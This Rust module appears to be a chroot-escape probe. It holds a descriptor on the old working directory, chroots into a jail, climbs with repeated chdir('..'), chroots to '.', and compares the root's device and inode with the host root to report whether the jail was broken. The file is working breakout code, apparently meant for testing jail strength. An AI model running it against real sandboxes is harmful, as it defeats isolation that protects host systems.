use std::io::{self, Write};
use std::os::unix::io::RawFd;
use std::path::Path;
use log::{debug, info, warn};
use nix::fcntl::{open, OFlag};
use nix::sys::stat::{stat, Mode};
use nix::unistd::{chdir, chroot, mkdir};

use crate::config::JailConfig;
use crate::error::JailError;

/// Device and inode of a directory. Two equal identities are the same directory.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RootIdentity {
    pub dev: u64,
    pub ino: u64,
}

impl RootIdentity {
    pub fn of<P: AsRef<Path>>(path: P) -> nix::Result<Self> {
        let st = stat(path.as_ref())?;
        Ok(RootIdentity { dev: st.st_dev as u64, ino: st.st_ino as u64 })
    }
}

#[derive(Debug)]
pub struct EscapeReport {
    /// Number of `chdir("..")` calls that succeeded.
    pub ascended: usize,
    /// `Some(true)` when `/` after the final chroot is the host root.
    pub escaped: Option<bool>,
    /// Descriptor on the pre-jail cwd. Intentionally never closed.
    pub held_fd: Option<RawFd>,
}

pub fn prepare_jail(config: &JailConfig) {
    match mkdir(config.jail_dir.as_path(), config.dir_mode) {
        Ok(()) => debug!("created {:?}", config.jail_dir),
        Err(e) => debug!("mkdir {:?}: {}", config.jail_dir, e),
    }
}

pub fn hold_cwd() -> Option<RawFd> {
    match open(".", OFlag::O_RDONLY, Mode::empty()) {
        Ok(fd) => {
            debug!("holding cwd as fd {}", fd);
            Some(fd)
        }
        Err(e) => {
            warn!("open .: {}", e);
            None
        }
    }
}

/// Calls `chdir("..")` up to `depth` times and returns how many succeeded.
/// The first failure ends the walk without failing the probe.
pub fn ascend(depth: usize) -> usize {
    ascend_with(depth, || chdir(".."), &mut io::stderr())
}

/// The failure diagnostic goes to `diag` unconditionally, not through the logger.
fn ascend_with<F, W>(depth: usize, mut step: F, diag: &mut W) -> usize
where
    F: FnMut() -> nix::Result<()>,
    W: Write,
{
    for taken in 0..depth {
        if let Err(e) = step() {
            let _ = writeln!(diag, "chdir: {}", e);
            return taken;
        }
    }
    depth
}

pub fn verdict(host: Option<RootIdentity>, after: Option<RootIdentity>) -> Option<bool> {
    match (host, after) {
        (Some(h), Some(a)) => Some(h == a),
        _ => None,
    }
}

pub fn escape_chroot(config: &JailConfig) -> Result<EscapeReport, JailError> {
    prepare_jail(config);
    let held_fd = hold_cwd();

    let host_root = RootIdentity::of("/")
        .map_err(|e| warn!("stat /: {}", e))
        .ok();

    chroot(config.jail_dir.as_path()).map_err(|e| JailError::chroot(&config.jail_dir, e))?;
    chdir("/").map_err(|e| JailError::chdir("/", e))?;
    info!("jailed in {:?}", config.jail_dir);

    let ascended = ascend(config.ascent_depth);
    debug!("ascended {} of {} levels", ascended, config.ascent_depth);

    chroot(".").map_err(|e| JailError::chroot(".", e))?;

    let after = RootIdentity::of("/")
        .map_err(|e| warn!("stat /: {}", e))
        .ok();
    let escaped = verdict(host_root, after);
    match escaped {
        Some(true) => info!("jail broken: / is the host root again"),
        Some(false) => info!("jail held: / is not the host root"),
        None => info!("could not compare / against the host root"),
    }

    Ok(EscapeReport { ascended, escaped, held_fd })
}
